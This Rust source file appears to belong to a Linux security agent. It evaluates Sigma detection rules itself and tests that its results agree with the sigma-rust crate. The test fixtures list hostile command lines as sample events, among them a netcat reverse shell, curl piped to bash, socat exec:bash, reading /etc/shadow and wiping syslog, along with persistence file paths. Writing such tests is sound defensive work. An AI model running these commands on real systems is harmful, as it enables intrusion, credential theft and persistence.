//! Rules the engine decides itself, without building a sigma-rust event: those whose every
//! selection compares fields with plain strings (equal, `contains`, `startswith`, `endswith`,
//! with or without `all`), integers (equal) or regular expressions (`re`, with the same regex
//! crate sigma-rust compiles them with) under a condition of `and`, `or`, `not`, parentheses
//! and `1 of` / `all of`. Most of SigmaHQ's Linux rules are of that shape, and deciding them here costs a
//! few string comparisons where sigma-rust lower-cases the event's value once per value the
//! rule lists.
//!
//! The decision is sigma-rust's, made the same way: a missing field never matches, values are
//! compared without case, a list of values is any of them (all of them with `all`). Where the
//! two could differ it does not decide and sigma-rust does: a rule value with a `?` wildcard
//! or a non-ASCII letter is not taken at all, and at evaluation a string compared with
//! a field holding a number, a number with a field holding text, or a string with a value
//! holding a non-ASCII letter (whose lower case sigma-rust finds with Unicode's rules) is left
//! to sigma-rust. The bench checks every alert against sigma-rust evaluating every rule, and a
//! unit test compares the two on every shipped and shared rule.

use serde_yaml::Value;

use super::{
    fields::{known_field, Field, FieldValue, SigmaFields},
    pattern::{pieces, Piece},
};

/// How a field is compared with a value.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum How {
    Equals,
    Contains,
    StartsWith,
    EndsWith,
    Regex,
}

/// One value of a field's test.
#[derive(Debug)]
enum Want {
    /// Lower-cased ASCII, compared without case.
    Text(String),
    /// The same with `*` wildcards: the parts between them, in order.
    Glob(Vec<String>),
    /// An integer: equal to a field holding that number.
    Int(i64),
    /// A regular expression, compiled as sigma-rust compiles it (the same crate).
    Regex(regex::Regex),
}

/// One field's test: its values, any or all of which must match.
#[derive(Debug)]
struct FieldTest {
    field: Field,
    how: How,
    all: bool,
    values: Vec<Want>,
    /// For a `contains` test of any of [`CONTAINS_AUTOMATON`] plain values or more, within the
    /// rule's [`CONTAINS_AUTOMATON_BYTES`], those values in one automaton: an ASCII value is
    /// read once, not once per value.
    any_text: Option<aho_corasick::AhoCorasick>,
}

/// The fewest plain `contains` values given an automaton ([`FieldTest::any_text`]). SigmaHQ's
/// sensitive-file rule lists thirteen, a candidate on every `cat` and `sed`: each was a search
/// of the command line of its own.
const CONTAINS_AUTOMATON: usize = 4;

/// The most bytes of plain values a rule's automata are built over, all its lists together. A
/// list of paths and flags is a few hundred; past this a list's values are searched one at a
/// time, so that a rule file listing long values (an automaton takes about a kilobyte per byte
/// of them) cannot make the engine a large allocation, nor its loading a long stall of the
/// agent's loop.
const CONTAINS_AUTOMATON_BYTES: usize = 1024;

/// The automaton of `t`'s plain values ([`FieldTest::any_text`]), where it is a `contains` list
/// long enough to gain from one and its values fit in what is left of the rule's `budget`.
fn contains_automaton(t: &FieldTest, budget: &mut usize) -> Option<aho_corasick::AhoCorasick> {
    // A number compared with text is sigma-rust's to decide, in its place in the list.
    if t.how != How::Contains || t.all || t.values.iter().any(|w| matches!(w, Want::Int(_))) {
        return None;
    }
    let texts: Vec<&str> = t
        .values
        .iter()
        .filter_map(|w| match w {
            Want::Text(t) => Some(t.as_str()),
            _ => None,
        })
        .collect();
    let bytes: usize = texts.iter().map(|t| t.len()).sum();
    if texts.len() < CONTAINS_AUTOMATON || bytes > *budget {
        return None;
    }
    *budget -= bytes;
    aho_corasick::AhoCorasick::builder()
        .ascii_case_insensitive(true)
        .kind(Some(aho_corasick::AhoCorasickKind::DFA))
        .build(&texts)
        .ok()
}

/// A selection: any of its groups, each all of its field tests; or keywords, any of which
/// one of the event's values must be as a whole.
#[derive(Debug)]
struct Selection {
    name: String,
    test: SelectionTest,
}

#[derive(Debug)]
enum SelectionTest {
    Fields(Vec<Vec<FieldTest>>),
    Keywords(Vec<Want>),
}

/// Most selections of a rule decided here: their answers are kept in one word.
const MAX_SELECTIONS: usize = 64;

/// A condition over the selections (by index).
#[derive(Debug)]
enum Expr {
    Selection(usize),
    Not(Box<Expr>),
    And(Vec<Expr>),
    Or(Vec<Expr>),
    AnyOf(Vec<usize>),
    AllOf(Vec<usize>),
}

/// A rule the engine decides itself.
#[derive(Debug)]
pub struct ExactRule {
    selections: Vec<Selection>,
    /// Any of the conditions (a rule may list several).
    conditions: Vec<Expr>,
}

/// The rule of `detection` (a rule's `detection` mapping), if it is of the shape decided here.
pub fn compile(detection: &Value) -> Option<ExactRule> {
    let d = detection.as_mapping()?;
    let mut selections = Vec::new();
    let mut conditions = Vec::new();
    for (k, v) in d {
        match k.as_str()? {
            "condition" => match v {
                Value::String(c) => conditions.push(c.clone()),
                Value::Sequence(cs) => {
                    for c in cs {
                        conditions.push(c.as_str()?.to_string());
                    }
                }
                _ => return None,
            },
            // A time window or anything else sigma-rust may read: not decided here.
            "timeframe" => return None,
            name => selections.push(Selection {
                name: name.to_string(),
                test: selection(v)?,
            }),
        }
    }
    if selections.len() > MAX_SELECTIONS {
        return None;
    }
    let conditions = conditions
        .iter()
        .map(|c| parse(c, &selections))
        .collect::<Option<Vec<_>>>()?;
    let mut budget = CONTAINS_AUTOMATON_BYTES;
    for s in &mut selections {
        if let SelectionTest::Fields(groups) = &mut s.test {
            for t in groups.iter_mut().flatten() {
                t.any_text = contains_automaton(t, &mut budget);
            }
        }
    }
    (!conditions.is_empty()).then_some(ExactRule {
        selections,
        conditions,
    })
}

/// A selection: one mapping, a list of mappings, or a list of keywords (strings).
fn selection(v: &Value) -> Option<SelectionTest> {
    match v {
        Value::Mapping(_) => Some(SelectionTest::Fields(vec![group(v)?])),
        Value::Sequence(items) if items.first().is_some_and(Value::is_mapping) => items
            .iter()
            .map(group)
            .collect::<Option<_>>()
            .map(SelectionTest::Fields),
        Value::Sequence(items) if !items.is_empty() => items
            .iter()
            .map(|k| text_want(k.as_str()?))
            .collect::<Option<_>>()
            .map(SelectionTest::Keywords),
        _ => None,
    }
}

/// A string value: plain or with `*` wildcards, escapes read ([`pattern`]); `None` with `?`
/// or a non-ASCII letter.
fn text_want(s: &str) -> Option<Want> {
    if !s.is_ascii() {
        return None;
    }
    // The parts between the stars, the first and last empty where a star begins or ends it.
    let mut parts = vec![String::new()];
    for piece in pieces(s) {
        match piece {
            Piece::Text(t) => parts.last_mut()?.push_str(&t.to_ascii_lowercase()),
            Piece::Any => parts.push(String::new()),
            Piece::One => return None,
        }
    }
    Some(match parts.len() {
        1 => Want::Text(parts.pop()?),
        _ => Want::Glob(parts),
    })
}

fn group(v: &Value) -> Option<Vec<FieldTest>> {
    let m = v.as_mapping()?;
    if m.is_empty() {
        return None;
    }
    m.iter().map(|(k, v)| field_test(k.as_str()?, v)).collect()
}

fn field_test(key: &str, v: &Value) -> Option<FieldTest> {
    let mut parts = key.split('|');
    let field = known_field(parts.next()?)?;
    let (mut how, mut all) = (How::Equals, false);
    for m in parts {
        match m {
            "contains" if how == How::Equals => how = How::Contains,
            "startswith" if how == How::Equals => how = How::StartsWith,
            "endswith" if how == How::Equals => how = How::EndsWith,
            "re" if how == How::Equals => how = How::Regex,
            "all" if !all => all = true,
            _ => return None,
        }
    }
    let values: Vec<&Value> = match v {
        Value::Sequence(seq) => seq.iter().collect(),
        other => vec![other],
    };
    if values.is_empty() {
        return None;
    }
    let values = values
        .into_iter()
        .map(|v| match (v, how) {
            (Value::Number(n), How::Equals) => n.as_i64().map(Want::Int),
            (Value::String(s), How::Regex) => regex::Regex::new(s).ok().map(Want::Regex),
            (Value::String(s), _) => text_want(s),
            _ => None,
        })
        .collect::<Option<Vec<_>>>()?;
    Some(FieldTest {
        field,
        how,
        all,
        values,
        any_text: None,
    })
}

/// The selections `pattern` names (`selection_*`, `them`), as sigma-rust picks them.
fn named(pattern: &str, selections: &[Selection]) -> Vec<usize> {
    selections
        .iter()
        .enumerate()
        .filter(|(_, s)| match pattern {
            "them" => true,
            p => match p.strip_suffix('*') {
                Some(prefix) if !prefix.contains(['*', '?']) => s.name.starts_with(prefix),
                None if !p.contains(['*', '?']) => s.name == p,
                _ => false,
            },
        })
        .map(|(i, _)| i)
        .collect()
}

/// Parses a condition; `None` for anything outside the grammar decided here.
fn parse(condition: &str, selections: &[Selection]) -> Option<Expr> {
    let spaced = condition.replace('(', " ( ").replace(')', " ) ");
    let tokens: Vec<&str> = spaced.split_whitespace().collect();
    let mut p = Parser {
        tokens: &tokens,
        at: 0,
        selections,
    };
    let e = p.or()?;
    (p.at == tokens.len()).then_some(e)
}

struct Parser<'a> {
    tokens: &'a [&'a str],
    at: usize,
    selections: &'a [Selection],
}

impl<'a> Parser<'a> {
    fn peek(&self) -> Option<&'a str> {
        self.tokens.get(self.at).copied()
    }

    fn or(&mut self) -> Option<Expr> {
        let mut parts = vec![self.and()?];
        while self.peek() == Some("or") {
            self.at += 1;
            parts.push(self.and()?);
        }
        Some(if parts.len() == 1 {
            parts.remove(0)
        } else {
            Expr::Or(parts)
        })
    }

    fn and(&mut self) -> Option<Expr> {
        let mut parts = vec![self.not()?];
        while self.peek() == Some("and") {
            self.at += 1;
            parts.push(self.not()?);
        }
        Some(if parts.len() == 1 {
            parts.remove(0)
        } else {
            Expr::And(parts)
        })
    }

    fn not(&mut self) -> Option<Expr> {
        if self.peek() == Some("not") {
            self.at += 1;
            return Some(Expr::Not(Box::new(self.not()?)));
        }
        self.atom()
    }

    fn atom(&mut self) -> Option<Expr> {
        let t = self.peek()?;
        self.at += 1;
        match t {
            "(" => {
                let e = self.or()?;
                (self.peek() == Some(")")).then(|| self.at += 1)?;
                Some(e)
            }
            "1" | "all" if self.peek() == Some("of") => {
                self.at += 1;
                let picked = named(self.peek()?, self.selections);
                self.at += 1;
                if picked.is_empty() {
                    return None;
                }
                Some(if t == "all" {
                    Expr::AllOf(picked)
                } else {
                    Expr::AnyOf(picked)
                })
            }
            "and" | "or" | "not" | ")" | "of" => None,
            name => self
                .selections
                .iter()
                .position(|s| s.name == name)
                .map(Expr::Selection),
        }
    }
}

/// Whether `value` (ASCII, compared without case) passes `how` against `want` (lower case).
fn compare(how: How, value: &str, want: &str) -> bool {
    let (v, w) = (value.as_bytes(), want.as_bytes());
    match how {
        How::Regex => false,
        How::Equals => v.eq_ignore_ascii_case(w),
        How::StartsWith => v.len() >= w.len() && v[..w.len()].eq_ignore_ascii_case(w),
        How::EndsWith => v.len() >= w.len() && v[v.len() - w.len()..].eq_ignore_ascii_case(w),
        How::Contains => find(v, w).is_some(),
    }
}

/// Where `w` first occurs in `v`, without ASCII case.
///
/// Candidate places are found by `w`'s first letter, in either case, with memchr: a rule's
/// list of `contains` values is tried against a command line one value at a time, and most
/// places in it do not even begin the value.
fn find(v: &[u8], w: &[u8]) -> Option<usize> {
    let Some((&first, rest)) = w.split_first() else {
        return Some(0);
    };
    let last_start = v.len().checked_sub(w.len())?;
    let (lower, upper) = (first.to_ascii_lowercase(), first.to_ascii_uppercase());
    let mut at = 0;
    while at <= last_start {
        let start = at + memchr::memchr2(lower, upper, &v[at..=last_start])?;
        if v[start + 1..start + w.len()].eq_ignore_ascii_case(rest) {
            return Some(start);
        }
        at = start + 1;
    }
    None
}

/// Whether `value` matches the wildcard pattern whose parts between `*` are `parts` (at least
/// two), under `how`: sigma-rust's matcher takes each part at its first occurrence after the
/// previous one, and the last at the end where the pattern ends there, as done here.
fn glob(how: How, value: &str, parts: &[String]) -> bool {
    let v = value.as_bytes();
    let anchored_start = matches!(how, How::Equals | How::StartsWith);
    let anchored_end = matches!(how, How::Equals | How::EndsWith);
    let last = parts.len() - 1;
    let mut at = 0;
    for (i, part) in parts.iter().enumerate() {
        let w = part.as_bytes();
        if i == 0 && anchored_start {
            if v.len() < w.len() || !v[..w.len()].eq_ignore_ascii_case(w) {
                return false;
            }
            at = w.len();
        } else if i == last && anchored_end {
            return v.len() - at >= w.len() && v[v.len() - w.len()..].eq_ignore_ascii_case(w);
        } else {
            match find(&v[at..], w) {
                Some(p) => at += p + w.len(),
                None => return false,
            }
        }
    }
    true
}

impl FieldTest {
    /// `None` where sigma-rust must decide (the field holds a number or a non-ASCII letter).
    fn holds(&self, f: &SigmaFields) -> Option<bool> {
        let Some((_, value)) = f.values.iter().find(|(k, _)| k.id == self.field.id) else {
            return Some(false);
        };
        // On ASCII text every value decides (none is left to sigma-rust), so their order does
        // not matter: the plain ones at once, then the others.
        if let (Some(any_text), FieldValue::Text(t)) = (&self.any_text, value) {
            if t.is_ascii() {
                return Some(
                    any_text.is_match(t.as_bytes())
                        || self.values.iter().any(|want| match want {
                            // A number is never there: see where the automaton is built.
                            Want::Text(_) | Want::Int(_) => false,
                            Want::Glob(parts) => glob(self.how, t, parts),
                            Want::Regex(re) => re.is_match(t),
                        }),
                );
            }
        }
        let mut each = self.values.iter().map(|want| match (want, value) {
            (Want::Int(w), FieldValue::Int(v)) => Some(w == v),
            (Want::Regex(re), FieldValue::Text(t)) => Some(re.is_match(t)),
            // sigma-rust lower-cases with Unicode's rules: a non-ASCII value is its to decide.
            (Want::Text(w), FieldValue::Text(t)) if t.is_ascii() => Some(compare(self.how, t, w)),
            (Want::Glob(parts), FieldValue::Text(t)) if t.is_ascii() => {
                Some(glob(self.how, t, parts))
            }
            _ => None,
        });
        // A value that decides the test (one that holds, or under `|all` one that fails)
        // decides it as sigma-rust would, whatever the values after it.
        for b in &mut each {
            if b? != self.all {
                return Some(!self.all);
            }
        }
        Some(self.all)
    }
}

/// Whether `want` is the whole of `value` (a keyword, as sigma-rust compares them).
fn keyword(want: &Want, value: &str) -> bool {
    match want {
        Want::Text(w) => compare(How::Equals, value, w),
        Want::Glob(parts) => glob(How::Equals, value, parts),
        _ => false,
    }
}

impl Selection {
    fn holds(&self, f: &SigmaFields) -> Option<bool> {
        match &self.test {
            SelectionTest::Fields(groups) => {
                // A group holds where all its tests hold; the selection, where one group does.
                // The first test that fails ends its group, the first group that holds ends
                // the selection, as in sigma-rust's result.
                'groups: for g in groups {
                    for t in g {
                        if !t.holds(f)? {
                            continue 'groups;
                        }
                    }
                    return Some(true);
                }
                Some(false)
            }
            // Every value of the event, numbers as their decimal text.
            SelectionTest::Keywords(words) => {
                let mut any = false;
                for (_, v) in &f.values {
                    let text = match v {
                        FieldValue::Text(t) if t.is_ascii() => std::borrow::Cow::Borrowed(&**t),
                        FieldValue::Text(_) => return None,
                        FieldValue::Int(i) => std::borrow::Cow::Owned(i.to_string()),
                    };
                    any |= words.iter().any(|w| keyword(w, &text));
                }
                Some(any)
            }
        }
    }
}

impl ExactRule {
    /// Whether the rule matches `f`; `None` where sigma-rust must decide.
    pub fn decide(&self, f: &SigmaFields) -> Option<bool> {
        // Each selection at most once, and only where the condition needs it (`a and not b`
        // never looks at `b` when `a` fails). A selection sigma-rust must decide makes the
        // whole rule its to decide, whether or not this order would have reached it.
        let mut memo = Memo {
            known: 0,
            value: 0,
            rule: self,
            f,
        };
        let mut matched = false;
        for c in &self.conditions {
            matched |= memo.eval(c)?;
        }
        Some(matched)
    }
}

/// The selections' answers found so far (bit `i`: selection `i`).
struct Memo<'r, 'f, 'a> {
    known: u64,
    value: u64,
    rule: &'r ExactRule,
    f: &'f SigmaFields<'a>,
}

impl Memo<'_, '_, '_> {
    fn selection(&mut self, i: usize) -> Option<bool> {
        let bit = 1u64 << i;
        if self.known & bit == 0 {
            let holds = self.rule.selections[i].holds(self.f)?;
            self.known |= bit;
            if holds {
                self.value |= bit;
            }
        }
        Some(self.value & bit != 0)
    }

    fn eval(&mut self, e: &Expr) -> Option<bool> {
        Some(match e {
            Expr::Selection(i) => self.selection(*i)?,
            Expr::Not(x) => !self.eval(x)?,
            Expr::And(xs) => {
                for x in xs {
                    if !self.eval(x)? {
                        return Some(false);
                    }
                }
                true
            }
            Expr::Or(xs) => {
                for x in xs {
                    if self.eval(x)? {
                        return Some(true);
                    }
                }
                false
            }
            Expr::AnyOf(is) => {
                for i in is {
                    if self.selection(*i)? {
                        return Some(true);
                    }
                }
                false
            }
            Expr::AllOf(is) => {
                for i in is {
                    if !self.selection(*i)? {
                        return Some(false);
                    }
                }
                true
            }
        })
    }
}

#[cfg(test)]
mod tests {
    use std::{path::PathBuf, sync::Arc};

    use vigil_events::{Arg, Event, FileArg, Process};

    use super::*;
    use crate::sigma::fields::field;
    use crate::sigma::{
        testing::{exec_of, policy_event},
        SigmaEngine,
    };

    /// Events that exercise the rules: commands and files they name, in several cases, and
    /// values sigma-rust must decide (non-ASCII).
    fn events() -> Vec<Event> {
        let parent = Arc::new(Process {
            binary: "/usr/bin/bash".into(),
            arguments: "-c x".into(),
            ..Default::default()
        });
        let commands = [
            ("/usr/bin/chattr", "-i /etc/passwd"),
            ("/usr/bin/CHATTR", "-I /ETC/PASSWD"),
            ("/usr/bin/nohup", "./x"),
            ("/usr/bin/find", "/ -perm -4000 -type f"),
            ("/usr/bin/cat", "/etc/shadow"),
            ("/usr/bin/cat", "/proc/2/status"),
            ("/usr/bin/base64", "-d payload"),
            ("/usr/bin/python3", "-c import pty;pty.spawn('/bin/sh')"),
            ("/usr/bin/nc", "-e /bin/sh 10.0.0.1 4444"),
            ("/usr/bin/curl", "-s http://x | bash"),
            ("/usr/bin/wget", "http://x -O /tmp/x"),
            ("/usr/sbin/useradd", "-u 0 bob"),
            ("/usr/bin/touch", "-t 202001010000 f"),
            ("/tmp/x/run", ""),
            ("/dev/shm/x", "a b"),
            ("/usr/bin/tail", "-n1 /root/.bash_history"),
            ("/usr/bin/sysctl", "-w kernel.randomize_va_space=0"),
            ("/usr/bin/grëp", "-r pässword"),
            ("/usr/bin/ls", "-la"),
            ("/usr/bin/rm", "-rf /var/log/syslog"),
            ("/usr/bin/vim", "/etc/ssh/sshd_config /etc/x.conf"),
            ("/usr/bin/sed", "-i s/a/b/ /etc/hosts.conf.bak"),
            ("/usr/bin/cat", "/etc/nginx/nginx.conf"),
            ("/usr/bin/wget", "-q http://h/x.sh; chmod +x x.sh"),
            ("/usr/bin/socat", "exec:bash tcp-connect:h:1"),
        ];
        let mut out: Vec<Event> = commands
            .iter()
            .map(|(b, a)| {
                exec_of(
                    Process {
                        binary: b.to_string(),
                        arguments: a.to_string(),
                        uid: 33,
                        ..Default::default()
                    },
                    Some(parent.clone()),
                )
            })
            .collect();
        for path in [
            "/etc/ld.so.preload",
            "/etc/systemd/system/x.service",
            "/etc/cron.d/job",
            "/root/.ssh/authorized_keys",
            "/etc/sudoers.d/x",
        ] {
            out.push(policy_event(
                "security_inode_create",
                Arg::FileArg(FileArg {
                    path: path.into(),
                    ..Default::default()
                }),
            ));
        }
        out
    }

    #[test]
    fn every_rule_decided_here_is_decided_as_sigma_rust_decides_it() {
        let root = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("..");
        let mut dirs = vec![
            root.join("rules/sigma"),
            root.join("../shared/testdata/sigma-linux"),
        ];
        dirs.extend(std::env::var_os("VIGIL_SIGMAHQ_LINUX").map(PathBuf::from));
        let (engine, _) = SigmaEngine::load(&dirs);
        let exact = engine.rules().iter().filter(|r| r.exact.is_some()).count();
        assert!(
            exact * 2 > engine.rules().len(),
            "{exact} of {}",
            engine.rules().len()
        );
        let (mut decided, mut matched) = (0, 0);
        for e in events() {
            for f in engine.views(&e) {
                let sigma = f.to_event();
                for r in engine.rules().iter().filter(|r| r.category == f.category) {
                    let Some(x) = r.exact.as_ref() else { continue };
                    let Some(here) = x.decide(&f) else { continue };
                    assert_eq!(
                        here,
                        r.rule.is_match(&sigma),
                        "{} on {:?}",
                        r.file.display(),
                        f.values
                    );
                    decided += 1;
                    matched += usize::from(here);
                }
            }
        }
        assert!(
            decided > 1000 && matched > 5,
            "{decided} decided, {matched} matched"
        );
    }

    /// The memchr-led search finds what trying every place finds: the first place, at either
    /// end, in either case, and nothing in a value shorter than the word.
    #[test]
    fn find_is_the_first_place_trying_every_place_finds() {
        let naive = |v: &[u8], w: &[u8]| {
            if w.is_empty() {
                return Some(0);
            }
            v.windows(w.len()).position(|x| x.eq_ignore_ascii_case(w))
        };
        let values = [
            "",
            "a",
            "/ETC/x",
            "x/etc/",
            "aaab",
            "AaAb",
            "/etc /ETC/",
            "b",
            "abab",
        ];
        let words = ["", "a", "ab", "aab", "/etc/", "b", "abab", "ababa", " /"];
        for v in values {
            for w in words {
                assert_eq!(
                    find(v.as_bytes(), w.as_bytes()),
                    naive(v.as_bytes(), w.as_bytes()),
                    "{w:?} in {v:?}"
                );
            }
        }
    }

    #[test]
    fn wildcards_match_as_sigma_rust_matches_them() {
        let patterns = [
            "a*b",
            "*a*b*",
            "ab*",
            "*ab",
            "a**b",
            "a*",
            "*",
            "a*b*a",
            "/etc/*.conf",
            r"a\*b",
            r"a\\*b",
            r"a\\\*b*",
            r"x\n*",
            r"*b\\",
            r"a\",
        ];
        let values = [
            "",
            "a",
            "b",
            "ab",
            "ba",
            "aab",
            "abb",
            "abab",
            "xaxbx",
            "aXb",
            "AB",
            "a b a",
            "/etc/x.conf",
            "/etc/x.conf.bak",
            "/ETC/a/b.CONF",
            "x /etc/.conf",
            "a*b",
            r"a\b",
            r"a\xb",
            r"a\*bc",
            r"x\nz",
            "x\nz",
            r"ab\",
            r"a\",
        ];
        for how in ["", "|contains", "|startswith", "|endswith"] {
            for p in patterns {
                let text = format!(
                    "title: t\nlogsource:\n  product: linux\n  category: process_creation\ndetection:\n  s:\n    CommandLine{how}: '{p}'\n  condition: s\n"
                );
                let load = || crate::sigma::load_rule(std::path::Path::new("g.yml"), &text);
                let rule = load().unwrap();
                let x = rule.exact.as_ref().expect("decided here");
                // The prefilter and the decision together, as the engine runs them.
                let engine = SigmaEngine::from_rules(vec![load().unwrap()]);
                for v in values {
                    let mut b = super::super::fields::Builder::new();
                    b.text(field!("CommandLine"), v);
                    b.text(field!("Image"), "/usr/bin/x");
                    let f = b.build("process_creation");
                    let want = rule.rule.is_match(&f.to_event());
                    assert_eq!(x.decide(&f), Some(want), "CommandLine{how}: {p} on {v:?}");
                    assert_eq!(
                        engine.evaluate_fields(&f).len(),
                        usize::from(want),
                        "engine: CommandLine{how}: {p} on {v:?}"
                    );
                }
            }
        }
    }

    /// A `contains` list long enough for the automaton decides what each value tried in turn
    /// decides, in either case, with wildcards among the plain values, and leaves a value
    /// outside ASCII to sigma-rust.
    #[test]
    fn a_long_contains_list_is_decided_as_its_values_one_by_one() {
        let text = "title: t\nlogsource:\n  product: linux\n  category: process_creation\n\
                    detection:\n  s:\n    CommandLine|contains:\n      - '/etc/crontab'\n      \
                    - '/etc/*.conf'\n      - '/Boot/'\n      - 'sbin'\n      - 'cron.d'\n  s2:\n    \
                    CommandLine|contains:\n      - 'aa'\n      - 'bb'\n      - 'cc'\n      \
                    - 'x*y'\n  condition: s and not s2\n";
        let rule = crate::sigma::load_rule(std::path::Path::new("c.yml"), text).unwrap();
        let x = rule.exact.as_ref().expect("decided here");
        let automata = x
            .selections
            .iter()
            .flat_map(|s| match &s.test {
                SelectionTest::Fields(groups) => groups.iter().flatten().collect(),
                SelectionTest::Keywords(_) => Vec::new(),
            })
            .filter(|t| t.any_text.is_some())
            .count();
        assert_eq!(automata, 1, "only the list of four plain values or more");
        let mut seen = [0; 2];
        for v in [
            "",
            "cat /ETC/CRONTAB",
            "vim /etc/x.CONF",
            "ls /boot/",
            "/usr/SBIN/x",
            "AA",
            "xbBx",
            "a-x-y",
            "x y",
            "/etc/cron",
            "café /etc/crontab",
            "café",
            "ls /bOOt/ aa",
        ] {
            let mut b = super::super::fields::Builder::new();
            b.text(field!("CommandLine"), v);
            let f = b.build("process_creation");
            let want = rule.rule.is_match(&f.to_event());
            match x.decide(&f) {
                Some(here) => assert_eq!(here, want, "{v:?}"),
                None => assert!(!v.is_ascii(), "an ASCII value is decided here: {v:?}"),
            }
            seen[usize::from(want)] += 1;
        }
        assert!(seen[0] > 3 && seen[1] > 3, "{seen:?}");
        // Values too long for an automaton are searched one by one, as before.
        let long = "x".repeat(CONTAINS_AUTOMATON_BYTES / 4 + 1);
        let text = format!(
            "title: t\nlogsource:\n  product: linux\n  category: process_creation\n\
             detection:\n  s:\n    CommandLine|contains: ['a{long}', 'b{long}', 'c{long}', \
             'd{long}']\n  condition: s\n"
        );
        let rule = crate::sigma::load_rule(std::path::Path::new("l.yml"), &text).unwrap();
        let x = rule.exact.as_ref().expect("decided here");
        let SelectionTest::Fields(groups) = &x.selections[0].test else {
            panic!("a field selection")
        };
        assert!(groups[0][0].any_text.is_none());
        // Two lists that each fit share one rule's budget: the first has an automaton.
        let part = "y".repeat(CONTAINS_AUTOMATON_BYTES / 8);
        let text = format!(
            "title: t\nlogsource:\n  product: linux\n  category: process_creation\n\
             detection:\n  s:\n    CommandLine|contains: ['a{part}', 'b{part}', 'c{part}', \
             'd{part}']\n  s2:\n    Image|contains: ['a{part}', 'b{part}', 'c{part}', \
             'd{part}', 'e{part}']\n  condition: s or s2\n"
        );
        let two = crate::sigma::load_rule(std::path::Path::new("t.yml"), &text).unwrap();
        let built: Vec<bool> = two
            .exact
            .as_ref()
            .expect("decided here")
            .selections
            .iter()
            .map(|s| match &s.test {
                SelectionTest::Fields(groups) => groups[0][0].any_text.is_some(),
                SelectionTest::Keywords(_) => false,
            })
            .collect();
        assert_eq!(built, [true, false]);
        for (v, want) in [(format!("run C{long}!"), true), (long.clone(), false)] {
            let mut b = super::super::fields::Builder::new();
            b.text(field!("CommandLine"), v.as_str());
            let f = b.build("process_creation");
            assert_eq!(rule.rule.is_match(&f.to_event()), want);
            assert_eq!(x.decide(&f), Some(want));
        }
    }

    #[test]
    fn a_value_with_a_wildcard_or_a_field_holding_a_number_is_left_to_sigma_rust() {
        let d = |text: &str| compile(&serde_yaml::from_str::<Value>(text).unwrap());
        assert!(d("s:\n  Image|endswith: '/x'\ncondition: s").is_some());
        assert!(d("s:\n  Image: '/x?'\ncondition: s").is_none());
        assert!(d("s:\n  Image: '/x\\\\y'\ncondition: s").is_some());
        assert!(d("s:\n  Image|re: 'x'\ncondition: s").is_some());
        assert!(d("s:\n  Image|base64offset|contains: 'x'\ncondition: s").is_none());
        assert!(d("s:\n  Image|cased: 'x'\ncondition: s").is_none());
        assert!(d("s:\n  - evil\ncondition: s").is_some());
        assert!(d("s:\n  - ev?l\ncondition: s").is_none());
        assert!(d("s:\n  Image: '/x'\ncondition: s | count() > 2").is_none());
        let rule = d("s:\n  ProcessId: '7'\ncondition: s").unwrap();
        let e = exec_of(Process::default(), None);
        let users = super::super::Users::default();
        let f = super::super::sigma_fields(&e, &users).unwrap();
        assert_eq!(rule.decide(&f), None);
    }
}
